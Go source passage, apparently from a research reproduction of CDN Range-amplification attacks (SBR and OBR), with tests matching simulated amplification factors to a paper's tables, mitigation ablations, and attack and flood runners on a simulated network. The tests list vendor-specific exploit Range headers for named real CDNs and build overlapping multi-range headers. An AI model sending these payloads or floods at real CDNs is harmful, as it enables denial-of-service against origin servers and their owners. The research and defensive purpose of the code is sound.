		UpstreamAddr: bcdnAddr,
		UpstreamSeg:  t.FcdnBcdnSeg,
		DisableCache: true, // the attacker's FCDN distribution does not cache
		Trace:        tracer,
		UpstreamPool: opts.UpstreamPool,
		Metrics:      env.Metrics,
	})
	if err != nil {
		t.Close()
		return nil, err
	}
	fcdnL, err := t.Net.Listen(fcdnAddr)
	if err != nil {
		t.Close()
		return nil, err
	}
	go t.FCDN.Serve(fcdnL)
	t.listeners = append(t.listeners, fcdnL)
	return t, nil
}

// Close shuts the listeners down and drains both edges' upstream
// pools (no-ops when pooling is off).
func (t *OBRTopology) Close() {
	for _, l := range t.listeners {
		l.Close()
	}
	if t.FCDN != nil {
		t.FCDN.Close()
	}
	if t.BCDN != nil {
		t.BCDN.Close()
	}
}
