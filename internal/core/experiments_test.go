package core

import (
	"strconv"
	"strings"
	"testing"

	"repro/internal/resource"
	"repro/internal/vendor"
)

// paperTable4 holds the published amplification factors (Table IV) at
// 1 MB and 25 MB, used as calibration targets with tolerance.
var paperTable4 = map[string][2]float64{
	"Akamai":        {1707, 43093},
	"Alibaba Cloud": {1056, 26241},
	"Azure":         {1401, 23481},
	"CDN77":         {1612, 40390},
	"CDNsun":        {1578, 38730},
	"Cloudflare":    {1282, 31836},
	"CloudFront":    {1356, 9281},
	"Fastly":        {1286, 31820},
	"G-Core Labs":   {1763, 43330},
	"Huawei Cloud":  {1465, 36335},
	"KeyCDN":        {724, 17744},
	"StackPath":     {1297, 32491},
	"Tencent Cloud": {1308, 32438},
}

func TestSBRSweepMatchesTable4(t *testing.T) {
	if testing.Short() {
		t.Skip("multi-MB sweep")
	}
	res, err := SBRSweep([]int{1, 25})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Vendors) != 13 {
		t.Fatalf("swept %d vendors", len(res.Vendors))
	}
	const tolerance = 0.15
	for name, want := range paperTable4 {
		got, ok := res.Factor[name]
		if !ok || len(got) != 2 {
			t.Errorf("%s: missing sweep data", name)
			continue
		}
		for i, w := range want {
			rel := (got[i] - w) / w
			if rel > tolerance || rel < -tolerance {
				t.Errorf("%s @ %dMB: factor %.0f, paper %.0f (%.1f%% off)",
					name, res.SizesMB[i], got[i], w, rel*100)
			}
		}
	}
}

func TestSBRFactorProportionalToSize(t *testing.T) {
	if testing.Short() {
		t.Skip("multi-MB sweep")
	}
	// §IV-B: "the bigger the target resource, the larger the amplification
	// factor" — except the Azure (16 MB) and CloudFront (10 MB) caps.
	res, err := SBRSweep([]int{2, 4})
	if err != nil {
		t.Fatal(err)
	}
	for _, v := range res.Vendors {
		f := res.Factor[v]
		ratio := f[1] / f[0]
		if ratio < 1.8 || ratio > 2.2 {
			t.Errorf("%s: factor(4MB)/factor(2MB) = %.2f, want ~2", v, ratio)
		}
	}
}

func TestSBRCapsAzureAndCloudFront(t *testing.T) {
	if testing.Short() {
		t.Skip("multi-MB sweep")
	}
	res, err := SBRSweep([]int{18, 24})
	if err != nil {
		t.Fatal(err)
	}
	for _, v := range []string{"Azure", "CloudFront"} {
		f := res.Factor[v]
		if f[1]/f[0] > 1.05 {
			t.Errorf("%s: factor kept growing past its cap: %.0f -> %.0f", v, f[0], f[1])
		}
	}
	// A Deletion vendor keeps growing.
	f := res.Factor["Akamai"]
	if f[1]/f[0] < 1.25 {
		t.Errorf("Akamai flattened unexpectedly: %.0f -> %.0f", f[0], f[1])
	}
}

func TestClientTrafficStaysSmall(t *testing.T) {
	// Fig 6b: response traffic to the client is at most ~1500B per
	// request regardless of resource size (KeyCDN's two responses remain
	// the largest).
	res, err := SBRSweep([]int{3})
	if err != nil {
		t.Fatal(err)
	}
	var maxBytes int64
	var maxVendor string
	for _, v := range res.Vendors {
		b := res.ClientBytes[v][0]
		if b <= 0 || b > 2000 {
			t.Errorf("%s: client traffic %dB out of range", v, b)
		}
		if b > maxBytes {
			maxBytes, maxVendor = b, v
		}
	}
	if maxVendor != "KeyCDN" {
		t.Errorf("largest client traffic from %s (%dB), paper says KeyCDN", maxVendor, maxBytes)
	}
}

func TestTable1AllVendorsSBRVulnerable(t *testing.T) {
	tab, observations, err := Table1()
	if err != nil {
		t.Fatal(err)
	}
	if len(tab.Rows) != 13*4 {
		t.Fatalf("%d rows", len(tab.Rows))
	}
	vulnerable := make(map[string]bool)
	for _, o := range observations {
		if o.SBRVuln {
			vulnerable[o.Vendor] = true
		}
	}
	if len(vulnerable) != 13 {
		t.Errorf("only %d vendors SBR-vulnerable, paper says all 13: %v", len(vulnerable), vulnerable)
	}
}

func TestTable1SpecificBehaviours(t *testing.T) {
	_, observations, err := Table1()
	if err != nil {
		t.Fatal(err)
	}
	find := func(vendorName, rangeHeader string) *ForwardObservation {
		for i := range observations {
			if observations[i].Vendor == vendorName && observations[i].Probe.Range == rangeHeader {
				return &observations[i]
			}
		}
		t.Fatalf("no observation for %s %s", vendorName, rangeHeader)
		return nil
	}
	if o := find("Akamai", "bytes=0-0"); o.Policy != vendor.Deletion {
		t.Errorf("Akamai bytes=0-0: %v", o.Policy)
	}
	if o := find("CloudFront", "bytes=0-0"); o.Policy != vendor.Expansion ||
		o.Forwarded[0] != "bytes=0-1048575" {
		t.Errorf("CloudFront bytes=0-0: %+v", o)
	}
	if o := find("Azure", "bytes=8388608-8388608"); len(o.Forwarded) != 2 ||
		o.Forwarded[0] != "None" || o.Forwarded[1] != "bytes=8388608-16777215" {
		t.Errorf("Azure window probe: %+v", o.Forwarded)
	}
	if o := find("CDN77", "bytes=2048-2050"); o.Policy != vendor.Laziness {
		t.Errorf("CDN77 first>=1024: %v", o.Policy)
	}
	if o := find("StackPath", "bytes=0-0"); len(o.Forwarded) != 2 ||
		o.Forwarded[0] != "Unchanged" || o.Forwarded[1] != "None" {
		t.Errorf("StackPath: %+v", o.Forwarded)
	}
	if o := find("KeyCDN", "bytes=0-0"); len(o.Forwarded) != 2 ||
		o.Forwarded[0] != "Unchanged" || o.Forwarded[1] != "None" {
		t.Errorf("KeyCDN: %+v", o.Forwarded)
	}
}

func TestTable2MatchesPaper(t *testing.T) {
	_, vulnerable, err := Table2()
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]bool{"cdn77": true, "cdnsun": true, "cloudflare": true, "stackpath": true}
	for name, isVuln := range vulnerable {
		if isVuln != want[name] {
			t.Errorf("%s FCDN-vulnerable = %v, paper says %v", name, isVuln, want[name])
		}
	}
	if len(vulnerable) != 13 {
		t.Errorf("probed %d vendors", len(vulnerable))
	}
}

func TestTable3MatchesPaper(t *testing.T) {
	_, vulnerable, err := Table3()
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]bool{"akamai": true, "azure": true, "stackpath": true}
	for name, isVuln := range vulnerable {
		if isVuln != want[name] {
			t.Errorf("%s BCDN-vulnerable = %v, paper says %v", name, isVuln, want[name])
		}
	}
}

// paperTable5 holds the published OBR factors for tolerance checks.
var paperTable5 = map[string]float64{
	"CDN77->Akamai":         3789.35,
	"CDN77->Azure":          53.55,
	"CDN77->StackPath":      3547.07,
	"CDNsun->Akamai":        3781.51,
	"CDNsun->Azure":         52.15,
	"CDNsun->StackPath":     3547.57,
	"Cloudflare->Akamai":    7432.53,
	"Cloudflare->Azure":     52.71,
	"Cloudflare->StackPath": 6513.69,
	"StackPath->Akamai":     7471.41,
	"StackPath->Azure":      50.74,
}

func TestTable5MatchesPaper(t *testing.T) {
	if testing.Short() {
		t.Skip("full OBR cascade")
	}
	tab, combos, err := Table5()
	if err != nil {
		t.Fatal(err)
	}
	if len(combos) != 11 {
		t.Fatalf("%d combinations, want 11", len(combos))
	}
	if len(tab.Rows) != 11 {
		t.Fatalf("%d table rows", len(tab.Rows))
	}
	const tolerance = 0.20
	for _, c := range combos {
		key := c.FCDN + "->" + c.BCDN
		want, ok := paperTable5[key]
		if !ok {
			t.Errorf("unexpected combination %s", key)
			continue
		}
		got := c.Result.Amplification.Factor()
		rel := (got - want) / want
		if rel > tolerance || rel < -tolerance {
			t.Errorf("%s: factor %.1f, paper %.1f (%.0f%% off, n=%d)",
				key, got, want, rel*100, c.Case.N)
		}
		if c.BCDN == "Azure" && c.Case.N != 64 {
			t.Errorf("%s: n = %d, want 64", key, c.Case.N)
		}
		if c.BCDN != "Azure" && (c.Case.N < 5000 || c.Case.N > 12000) {
			t.Errorf("%s: n = %d outside the paper's 5455..10801 band", key, c.Case.N)
		}
		if c.Result.Parts != c.Case.N {
			t.Errorf("%s: reply has %d parts for n=%d", key, c.Result.Parts, c.Case.N)
		}
	}
}

func TestPlanMaxNPaperOrdering(t *testing.T) {
	cdn77, _ := vendor.ByName("cdn77")
	cloudflare, _ := vendor.ByName("cloudflare")
	stackpath, _ := vendor.ByName("stackpath")
	akamai, _ := vendor.ByName("akamai")
	azure, _ := vendor.ByName("azure")

	n77 := PlanMaxN(cdn77, akamai, targetPath)
	if n77.N != 5455 {
		t.Errorf("CDN77->Akamai n = %d, want 5455", n77.N)
	}
	ncf := PlanMaxN(cloudflare, akamai, targetPath)
	nsp := PlanMaxN(stackpath, akamai, targetPath)
	if !(n77.N < ncf.N && ncf.N <= nsp.N) {
		t.Errorf("n ordering: cdn77=%d cloudflare=%d stackpath=%d", n77.N, ncf.N, nsp.N)
	}
	if naz := PlanMaxN(cloudflare, azure, targetPath); naz.N != 64 {
		t.Errorf("->Azure n = %d", naz.N)
	}
}

func TestBandwidthFigures(t *testing.T) {
	cfg := DefaultBandwidthConfig()
	cfg.Ms = []int{1, 5, 11, 14}
	fig7a, fig7b, err := Bandwidth(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if len(fig7a.Series) != 4 || len(fig7b.Series) != 4 {
		t.Fatalf("series counts: %d, %d", len(fig7a.Series), len(fig7b.Series))
	}
	steady := func(ys []float64) float64 {
		sum := 0.0
		for _, y := range ys[10:20] {
			sum += y
		}
		return sum / 10
	}
	// Fig 7a: client incoming < 500 Kbps for every m.
	for _, s := range fig7a.Series {
		for _, y := range s.Y {
			if y > 500 {
				t.Errorf("client series %s: %.1f Kbps > 500", s.Name, y)
			}
		}
	}
	// Fig 7b: proportional below saturation, pinned at ~1000 above.
	m1 := steady(fig7b.Series[0].Y)
	m5 := steady(fig7b.Series[1].Y)
	if m5/m1 < 4.5 || m5/m1 > 5.5 {
		t.Errorf("m=5/m=1 steady ratio = %.2f, want ~5", m5/m1)
	}
	m14 := steady(fig7b.Series[3].Y)
	if m14 < 970 {
		t.Errorf("m=14 steady = %.1f Mbps, want saturation", m14)
	}
}

func TestMitigationsCollapseFactors(t *testing.T) {
	tab, err := Mitigations()
	if err != nil {
		t.Fatal(err)
	}
	if len(tab.Rows) != 7 {
		t.Fatalf("%d rows", len(tab.Rows))
	}
	factor := func(row []string) float64 {
		f, err := strconv.ParseFloat(row[2], 64)
		if err != nil {
			t.Fatalf("bad factor cell %q", row[2])
		}
		return f
	}
	sbrBase, sbrLazy, sbrBounded, sbrSliced := factor(tab.Rows[0]), factor(tab.Rows[1]), factor(tab.Rows[2]), factor(tab.Rows[3])
	if sbrBase < 1000 {
		t.Errorf("unmitigated SBR factor = %.1f, want > 1000", sbrBase)
	}
	if sbrLazy > 3 {
		t.Errorf("Laziness SBR factor = %.1f, want ~1", sbrLazy)
	}
	if sbrBounded > 30 {
		t.Errorf("bounded-expansion SBR factor = %.1f, want small", sbrBounded)
	}
	if sbrSliced > 2000 || sbrSliced < 100 {
		t.Errorf("slicing SBR factor = %.1f, want ~sliceSize/clientResp", sbrSliced)
	}
	if sbrSliced >= sbrBase/5 {
		t.Errorf("slicing barely helped: %.1f vs %.1f", sbrSliced, sbrBase)
	}
	obrBase, obrReject, obrCoalesce := factor(tab.Rows[4]), factor(tab.Rows[5]), factor(tab.Rows[6])
	if obrBase < 100 {
		t.Errorf("unmitigated OBR factor = %.1f, want > 100 at n=256", obrBase)
	}
	if obrReject > 5 || obrCoalesce > 5 {
		t.Errorf("mitigated OBR factors = %.1f / %.1f, want ~1", obrReject, obrCoalesce)
	}
}

func TestSBRExploitCases(t *testing.T) {
	tests := []struct {
		vendor string
		size   int64
		want   SBRCase
	}{
		{"akamai", 25 * MiB, SBRCase{"bytes=0-0", 1}},
		{"alibaba", 25 * MiB, SBRCase{"bytes=-1", 1}},
		{"azure", 4 * MiB, SBRCase{"bytes=0-0", 1}},
		{"azure", 25 * MiB, SBRCase{"bytes=8388608-8388608", 1}},
		{"cloudfront", 25 * MiB, SBRCase{"bytes=0-0,9437184-9437184", 1}},
		{"huawei", 4 * MiB, SBRCase{"bytes=-1", 1}},
		{"huawei", 25 * MiB, SBRCase{"bytes=0-0", 1}},
		{"keycdn", 25 * MiB, SBRCase{"bytes=0-0", 2}},
	}
	for _, tt := range tests {
		if got := SBRExploit(tt.vendor, tt.size); got != tt.want {
			t.Errorf("SBRExploit(%s, %d) = %+v, want %+v", tt.vendor, tt.size, got, tt.want)
		}
	}
}

func TestBuildOverlappingRange(t *testing.T) {
	if got := BuildOverlappingRange("0-", 3); got != "bytes=0-,0-,0-" {
		t.Errorf("got %q", got)
	}
	if got := BuildOverlappingRange("-1024", 2); got != "bytes=-1024,0-" {
		t.Errorf("got %q", got)
	}
	if got := BuildOverlappingRange("1-", 1); got != "bytes=1-" {
		t.Errorf("got %q", got)
	}
}

func TestOBRFirstTokens(t *testing.T) {
	tests := map[string]string{
		"cdn77": "-1024", "cdnsun": "1-", "cloudflare": "0-", "stackpath": "0-",
	}
	for name, want := range tests {
		if got := OBRFirstToken(name); got != want {
			t.Errorf("OBRFirstToken(%s) = %q, want %q", name, got, want)
		}
	}
}

func TestRenderingsNonEmpty(t *testing.T) {
	res, err := SBRSweep([]int{1})
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	if err := res.Table4().Render(&b); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), "Akamai") {
		t.Error("Table4 rendering missing vendors")
	}
	fa, fb, fc := res.Fig6()
	b.Reset()
	if err := fa.Render(&b); err != nil || !strings.Contains(b.String(), "Fig 6a") {
		t.Errorf("Fig6a render: %v", err)
	}
	b.Reset()
	if err := fb.Render(&b); err != nil {
		t.Error(err)
	}
	b.Reset()
	if err := fc.Render(&b); err != nil {
		t.Error(err)
	}
}

// TestAllVendorsEndToEndAtOneMB drives every vendor's exploited case
// through a full topology (listener, wire parsing, cache, behaviour,
// reply) and sanity-checks the Fig 4 flow invariants.
func TestAllVendorsEndToEndAtOneMB(t *testing.T) {
	const size = 1 * MiB
	for _, p := range vendor.All() {
		p := p
		t.Run(p.Name, func(t *testing.T) {
			store := resourceStoreWith(t, size)
			topo, err := NewSBRTopology(p.Clone(), store, SBROptions{OriginRangeSupport: true})
			if err != nil {
				t.Fatal(err)
			}
			defer topo.Close()
			if err := PrimeSizeHint(topo, targetPath); err != nil {
				t.Fatal(err)
			}
			topo.ClientSeg.Reset()
			topo.OriginSeg.Reset()
			res, err := RunSBR(topo, targetPath, size, "e2e")
			if err != nil {
				t.Fatal(err)
			}
			for i, resp := range res.Responses {
				if resp.StatusCode != 200 && resp.StatusCode != 206 {
					t.Fatalf("response %d: status %d", i, resp.StatusCode)
				}
			}
			if res.Amplification.VictimBytes < size {
				t.Errorf("origin sent %d bytes, want >= %d", res.Amplification.VictimBytes, size)
			}
			if res.Amplification.AttackerBytes > 2500 {
				t.Errorf("client received %d bytes, want tiny", res.Amplification.AttackerBytes)
			}
			if f := res.Amplification.Factor(); f < 400 {
				t.Errorf("factor %.0f too small", f)
			}
			// Request-direction traffic is tiny in both directions too.
			vUp, aUp := 0, 0
			{
				v, a := topo.OriginSeg.Traffic().Up, topo.ClientSeg.Traffic().Up
				vUp, aUp = int(v), int(a)
			}
			if vUp > 4096 || aUp > 4096 {
				t.Errorf("request traffic not small: origin=%d client=%d", vUp, aUp)
			}
		})
	}
}

func resourceStoreWith(t *testing.T, size int64) *resource.Store {
	t.Helper()
	store := resource.NewStore()
	store.AddSynthetic(targetPath, size, contentType)
	return store
}

// TestExperimentDeterminism: every experiment that involves no
// scheduling-dependent truncation must reproduce byte-identical
// factors across runs.
func TestExperimentDeterminism(t *testing.T) {
	runOnce := func() map[string]float64 {
		_, combos, err := Table5()
		if err != nil {
			t.Fatal(err)
		}
		out := make(map[string]float64, len(combos))
		for _, c := range combos {
			out[c.FCDN+"->"+c.BCDN] = c.Result.Amplification.Factor()
		}
		return out
	}
	a, b := runOnce(), runOnce()
	for k, va := range a {
		if vb := b[k]; va != vb {
			t.Errorf("%s: %.4f vs %.4f across runs", k, va, vb)
		}
	}
}
