package core

import (
	"testing"

	"repro/internal/resource"
	"repro/internal/vendor"
)

// Experiment-level assertions (Table I-V content, sweeps, mitigation
// ablations) live in internal/exp, next to the registered experiments.
// This file tests the probe-cell primitives that stayed in core.

func TestPlanMaxNPaperOrdering(t *testing.T) {
	cdn77, _ := vendor.ByName("cdn77")
	cloudflare, _ := vendor.ByName("cloudflare")
	stackpath, _ := vendor.ByName("stackpath")
	akamai, _ := vendor.ByName("akamai")
	azure, _ := vendor.ByName("azure")

	n77 := PlanMaxN(cdn77, akamai, targetPath)
	if n77.N != 5455 {
		t.Errorf("CDN77->Akamai n = %d, want 5455", n77.N)
	}
	ncf := PlanMaxN(cloudflare, akamai, targetPath)
	nsp := PlanMaxN(stackpath, akamai, targetPath)
	if !(n77.N < ncf.N && ncf.N <= nsp.N) {
		t.Errorf("n ordering: cdn77=%d cloudflare=%d stackpath=%d", n77.N, ncf.N, nsp.N)
	}
	if naz := PlanMaxN(cloudflare, azure, targetPath); naz.N != 64 {
		t.Errorf("->Azure n = %d", naz.N)
	}
}

func TestSBRExploitCases(t *testing.T) {
	tests := []struct {
		vendor string
		size   int64
		want   SBRCase
	}{
		{"akamai", 25 * MiB, SBRCase{"bytes=0-0", 1}},
		{"alibaba", 25 * MiB, SBRCase{"bytes=-1", 1}},
		{"azure", 4 * MiB, SBRCase{"bytes=0-0", 1}},
		{"azure", 25 * MiB, SBRCase{"bytes=8388608-8388608", 1}},
		{"cloudfront", 25 * MiB, SBRCase{"bytes=0-0,9437184-9437184", 1}},
		{"huawei", 4 * MiB, SBRCase{"bytes=-1", 1}},
		{"huawei", 25 * MiB, SBRCase{"bytes=0-0", 1}},
		{"keycdn", 25 * MiB, SBRCase{"bytes=0-0", 2}},
	}
	for _, tt := range tests {
		if got := SBRExploit(tt.vendor, tt.size); got != tt.want {
			t.Errorf("SBRExploit(%s, %d) = %+v, want %+v", tt.vendor, tt.size, got, tt.want)
		}
	}
}

func TestBuildOverlappingRange(t *testing.T) {
	if got := BuildOverlappingRange("0-", 3); got != "bytes=0-,0-,0-" {
		t.Errorf("got %q", got)
	}
	if got := BuildOverlappingRange("-1024", 2); got != "bytes=-1024,0-" {
		t.Errorf("got %q", got)
	}
	if got := BuildOverlappingRange("1-", 1); got != "bytes=1-" {
		t.Errorf("got %q", got)
	}
}

func TestOBRFirstTokens(t *testing.T) {
	tests := map[string]string{
		"cdn77": "-1024", "cdnsun": "1-", "cloudflare": "0-", "stackpath": "0-",
	}
	for name, want := range tests {
		if got := OBRFirstToken(name); got != want {
			t.Errorf("OBRFirstToken(%s) = %q, want %q", name, got, want)
		}
	}
}

func TestJoinForwarded(t *testing.T) {
	if got := JoinForwarded(nil); got != "(no back-to-origin request)" {
		t.Errorf("empty: %q", got)
	}
	if got := JoinForwarded([]string{"Unchanged"}); got != "Unchanged" {
		t.Errorf("one: %q", got)
	}
	if got := JoinForwarded([]string{"Unchanged", "None"}); got != "Unchanged & None" {
		t.Errorf("two: %q", got)
	}
}

// TestAllVendorsEndToEndAtOneMB drives every vendor's exploited case
// through a full topology (listener, wire parsing, cache, behaviour,
// reply) and sanity-checks the Fig 4 flow invariants.
func TestAllVendorsEndToEndAtOneMB(t *testing.T) {
	const size = 1 * MiB
	for _, p := range vendor.All() {
		p := p
		t.Run(p.Name, func(t *testing.T) {
			store := resourceStoreWith(t, size)
			topo, err := NewSBRTopology(p.Clone(), store, SBROptions{OriginRangeSupport: true})
			if err != nil {
				t.Fatal(err)
			}
			defer topo.Close()
			if err := PrimeSizeHint(topo, targetPath); err != nil {
				t.Fatal(err)
			}
			topo.ClientSeg.Reset()
			topo.OriginSeg.Reset()
			res, err := RunSBR(topo, targetPath, size, "e2e")
			if err != nil {
				t.Fatal(err)
			}
			for i, resp := range res.Responses {
				if resp.StatusCode != 200 && resp.StatusCode != 206 {
					t.Fatalf("response %d: status %d", i, resp.StatusCode)
				}
			}
			if res.Amplification.VictimBytes < size {
				t.Errorf("origin sent %d bytes, want >= %d", res.Amplification.VictimBytes, size)
			}
			if res.Amplification.AttackerBytes > 2500 {
				t.Errorf("client received %d bytes, want tiny", res.Amplification.AttackerBytes)
			}
			if f := res.Amplification.Factor(); f < 400 {
				t.Errorf("factor %.0f too small", f)
			}
			// Request-direction traffic is tiny in both directions too.
			vUp, aUp := 0, 0
			{
				v, a := topo.OriginSeg.Traffic().Up, topo.ClientSeg.Traffic().Up
				vUp, aUp = int(v), int(a)
			}
			if vUp > 4096 || aUp > 4096 {
				t.Errorf("request traffic not small: origin=%d client=%d", vUp, aUp)
			}
		})
	}
}

func resourceStoreWith(t *testing.T, size int64) *resource.Store {
	t.Helper()
	store := resource.NewStore()
	store.AddSynthetic(targetPath, size, contentType)
	return store
}
