// Per-run runtime environment. Historically every topology resolved its
// counters against metrics.Default and its spans against trace.Default,
// so parallel experiment runs funneled through one set of shared atomics
// (and interleaved their registry deltas — Result.Stats was only
// trustworthy when runs were serialized). A Runtime carries the
// process-wide singletons' roles as explicit per-run state instead: each
// run gets its own registry, tracer, resource store and clock, and the
// defaults survive only as the nil-fallback for daemons (origind/cdnsim
// /metrics) and the public API wrappers.
package core

import (
	"time"

	"repro/internal/metrics"
	"repro/internal/resource"
	"repro/internal/trace"
)

// Runtime is the execution environment one experiment run lives in. All
// fields are optional; nil fields resolve to the process-wide defaults
// at construction time (see SBROptions.Runtime / OBROptions.Runtime).
type Runtime struct {
	// Metrics receives every counter, gauge and histogram the run's
	// topologies emit. Nil means metrics.Default.
	Metrics *metrics.Registry

	// Trace receives the run's request span trees. Nil means
	// trace.Default (disabled unless configured). An explicit
	// SBROptions.Trace / OBROptions.Trace still wins over this.
	Trace *trace.Tracer

	// Store is the origin resource store topologies fall back to when
	// the caller passes none. Nil keeps the historical behaviour of a
	// fresh empty store per topology.
	Store *resource.Store

	// Now is the clock threaded into components that accept one. Nil
	// keeps each component's deterministic default (the origin's fixed
	// Date instant, the cache's time.Now), which the byte-identical
	// experiment goldens depend on.
	Now func() time.Time
}

// NewRuntime returns a fully isolated environment: a fresh registry, a
// disabled tracer, and a fresh resource store. Two runs on separate
// NewRuntime environments share no mutable state, so their metric
// deltas are exact and their hot paths never contend on each other's
// cache lines.
func NewRuntime() *Runtime {
	return &Runtime{
		Metrics: metrics.New(),
		Trace:   trace.New(trace.Config{}),
		Store:   resource.NewStore(),
	}
}

// Registry returns the registry the runtime's runs resolve against:
// rt.Metrics, or the process default when rt (or the field) is nil.
// Callers that snapshot a run's delta must diff this registry — it is
// the same resolution topology construction applies.
func (rt *Runtime) Registry() *metrics.Registry {
	if rt != nil && rt.Metrics != nil {
		return rt.Metrics
	}
	return metrics.Default
}

// effective resolves a possibly-nil Runtime with possibly-nil fields
// into concrete dependencies. This is the single construction boundary
// where the process-wide defaults survive: daemons and public API
// wrappers that never mention a Runtime land here and keep reporting to
// metrics.Default / trace.Default unchanged.
func (rt *Runtime) effective() Runtime {
	var out Runtime
	if rt != nil {
		out = *rt
	}
	if out.Metrics == nil {
		out.Metrics = metrics.Default
	}
	if out.Trace == nil {
		out.Trace = trace.Default
	}
	return out
}
