//go:build !race

package core

// raceEnabled scales the big vtime smoke tests down when the race
// detector multiplies every allocation and atomic op.
const raceEnabled = false
