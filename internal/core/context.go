package core

import (
	"context"
	"fmt"

	"repro/internal/httpwire"
	"repro/internal/measure"
	"repro/internal/netsim"
	"repro/internal/origin"
	"repro/internal/trace"
)

// This file holds the context-aware attack entry points. Each attack
// is a sequence of hops (edge round-trips); cancellation is honoured
// between hops, never mid-transfer, so a cancelled run leaves the
// topology in a consistent state and its partial traffic remains
// visible in the metrics registry.

// RunSBRContext is RunSBR honouring ctx between hops. A cancelled
// context returns ctx.Err() before the next request is sent; requests
// already in flight complete normally. It probes with the vendor's
// exploited Range case; RunSBRCase is the same measurement with an
// explicit case.
func RunSBRContext(ctx context.Context, t *SBRTopology, path string, resourceSize int64, cacheBuster string) (*SBRResult, error) {
	return RunSBRCase(ctx, t, path, SBRExploit(t.Profile.Name, resourceSize), cacheBuster)
}

// RunSBRCase sends rcase.Repeat identical requests carrying
// rcase.RangeHeader against the topology's edge (all sharing one
// cache-busting query, so repeats intentionally hit the same key) and
// returns the per-segment traffic measurement. It is the single-probe
// primitive behind RunSBRContext and the campaign runner's range-grammar
// axis; cancellation is honoured between requests.
func RunSBRCase(ctx context.Context, t *SBRTopology, path string, rcase SBRCase, cacheBuster string) (*SBRResult, error) {
	exploit := rcase
	if exploit.Repeat < 1 {
		exploit.Repeat = 1
	}
	probe := measure.NewProbe(t.OriginSeg, t.ClientSeg)
	target := path + "?cb=" + cacheBuster

	result := &SBRResult{Case: exploit}
	for i := 0; i < exploit.Repeat; i++ {
		if err := ctx.Err(); err != nil {
			return nil, fmt.Errorf("sbr request %d: %w", i, err)
		}
		req := NewAttackRequest(target)
		req.Headers.Add("Range", exploit.RangeHeader)
		sp, before := startClientSpan(t.Trace, t.ClientSeg, target, exploit.RangeHeader, &req.Headers)
		resp, err := origin.Fetch(t.Net, t.EdgeAddr, t.ClientSeg, req)
		endClientSpan(sp, t.ClientSeg, before, resp, err)
		if err != nil {
			return nil, fmt.Errorf("sbr request %d: %w", i, err)
		}
		result.Responses = append(result.Responses, resp)
	}
	result.Amplification = probe.Delta()
	return result, nil
}

// startClientSpan roots a trace at the attack client (node "attacker")
// when the topology's tracer samples this request, injecting the
// traceparent header so the edge and origin hops join the same tree.
// It snapshots the client segment so endClientSpan can attribute this
// request's wire bytes to the span.
func startClientSpan(tr *trace.Tracer, seg *netsim.Segment, target, rangeHeader string, hs *httpwire.Headers) (*trace.Span, netsim.Traffic) {
	sp := tr.StartRoot("attacker", target)
	if !sp.Recording() {
		return nil, netsim.Traffic{}
	}
	if rangeHeader != "" {
		if len(rangeHeader) > 48 {
			rangeHeader = rangeHeader[:45] + "..."
		}
		sp.SetAttr("range", rangeHeader)
	}
	if seg != nil {
		sp.SetAttr("segment", seg.Name)
	}
	trace.Inject(sp, hs)
	return sp, seg.Traffic()
}

// endClientSpan records the request's outcome and per-segment byte
// delta on the client span and closes it (completing the trace: the
// downstream hops all ended before their response bytes reached us).
func endClientSpan(sp *trace.Span, seg *netsim.Segment, before netsim.Traffic, resp *httpwire.Response, err error) {
	if !sp.Recording() {
		return
	}
	d := seg.Since(before)
	sp.SetAttrInt("bytes_up", d.Up)
	sp.SetAttrInt("bytes_down", d.Down)
	if resp != nil {
		sp.SetAttrInt("status", int64(resp.StatusCode))
	}
	if err != nil {
		sp.SetAttr("error", err.Error())
	}
	sp.End()
}

// RunOBRContext is RunOBR honouring ctx: a context already cancelled
// when the attack request would be sent returns ctx.Err().
func RunOBRContext(ctx context.Context, t *OBRTopology, path string, n int) (*OBRResult, error) {
	// The sampling decision comes first: a traced request carries a
	// traceparent header, and the max-n planner must budget for it (the
	// vendor limits count every header field).
	sp := t.Trace.StartRoot("attacker", path)
	var extra httpwire.Headers
	if sp.Recording() {
		extra.Add(trace.Header, sp.Context().HeaderValue())
	}
	plan := planMaxN(t.FCDN.Profile(), t.BCDN.Profile(), path, extra)
	if n > 0 {
		plan.N = n
	}
	if plan.N < 1 {
		sp.End()
		return nil, fmt.Errorf("obr: no usable n for %s->%s", t.FCDN.Profile().Name, t.BCDN.Profile().Name)
	}
	if err := ctx.Err(); err != nil {
		sp.End()
		return nil, fmt.Errorf("obr request: %w", err)
	}
	probe := measure.NewProbe(t.FcdnBcdnSeg, t.BcdnOriginSeg)
	req := NewAttackRequest(path)
	rangeHeader := BuildOverlappingRange(plan.FirstToken, plan.N)
	req.Headers.Add("Range", rangeHeader)
	var before netsim.Traffic
	if sp.Recording() {
		sp.SetAttrInt("n", int64(plan.N))
		if len(rangeHeader) > 48 {
			rangeHeader = rangeHeader[:45] + "..."
		}
		sp.SetAttr("range", rangeHeader)
		sp.SetAttr("segment", t.ClientSeg.Name)
		trace.Inject(sp, &req.Headers)
		before = t.ClientSeg.Traffic()
	}
	resp, err := origin.Fetch(t.Net, t.FCDNAddr, t.ClientSeg, req)
	endClientSpan(sp, t.ClientSeg, before, resp, err)
	if err != nil {
		return nil, fmt.Errorf("obr request: %w", err)
	}
	// Table V's two byte counts use the paper's own (mixed) vantage
	// points: fcdn-bcdn traffic was collected at an application-level
	// proxy the authors inserted between the CDNs, while bcdn-origin
	// traffic was captured on the wire (its 1676B for a 1KB resource
	// includes TCP/IP framing and handshakes). We therefore report the
	// application-level delta for the victim segment and the
	// capture-level estimate for the origin segment.
	appDelta := probe.Delta()
	wireDelta := probe.WireDelta()
	return &OBRResult{
		Case: plan,
		Amplification: measure.Amplification{
			VictimBytes:   appDelta.VictimBytes,    // fcdn-bcdn response bytes (proxy view)
			AttackerBytes: wireDelta.AttackerBytes, // bcdn-origin response bytes (capture view)
		},
		Response: resp,
		Parts:    CountParts(resp),
	}, nil
}

// RunSBRFloodContext fires workers × perWorker SBR attack requests
// concurrently, honouring ctx between requests.
//
// Deprecated: use RunSBRFloodOpts, the canonical flood entry point; this
// wrapper fills FloodOptions positionally.
func RunSBRFloodContext(ctx context.Context, t *SBRTopology, path string, resourceSize int64, workers, perWorker int) (*FloodResult, error) {
	return RunSBRFloodOpts(ctx, t, FloodOptions{
